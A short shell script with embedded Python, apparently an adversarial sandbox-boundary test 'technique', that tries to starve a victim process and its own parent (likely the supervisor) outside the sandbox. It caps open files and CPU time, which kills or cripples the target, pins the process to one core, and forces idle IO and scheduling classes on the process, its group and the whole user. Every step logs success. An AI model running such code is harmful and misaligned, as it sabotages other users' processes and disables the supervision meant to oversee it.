# technique: re-nice, re-schedule, pin, io-throttle and limit a process of the user outside the sandbox and the supervisor, by pid, group and user
. ./.adv/world.env
for p in "$VICTIM_PID" "$PPID"; do
  prlimit --pid "$p" --nofile=3:3 && echo "prlimit nofile $p SET"
  prlimit --pid "$p" --cpu=1:1 && echo "prlimit cpu $p SET"
  renice -n 19 -p "$p" && echo "renice $p SET"
  taskset -p 1 "$p" && echo "taskset $p SET"
  ionice -c 3 -p "$p" && echo "ionice $p SET"
  chrt -i -p 0 "$p" && echo "chrt idle $p SET"
  chrt -b -p 0 "$p" && echo "chrt batch $p SET"
done
renice -n 19 -u "$(id -u)" && echo "renice user SET"
renice -n 19 -g "$(ps -o pgid= -p "$VICTIM_PID" | tr -d ' ')" && echo "renice group SET"
ionice -c 3 -u "$(id -u)" && echo "ionice user SET"
python3 - "$VICTIM_PID" <<'PY'
import os, sys
v = int(sys.argv[1])
for name, f in [("sched_setaffinity", lambda: os.sched_setaffinity(v, {0})),
                ("sched_setscheduler", lambda: os.sched_setscheduler(v, os.SCHED_IDLE, os.sched_param(0))),
                ("setpriority", lambda: os.setpriority(os.PRIO_PROCESS, v, 19)),
                ("setpriority user", lambda: os.setpriority(os.PRIO_USER, 0, 19))]:
    try:
        f(); print(name, "SET")
    except OSError as e:
        print(name, e)
PY
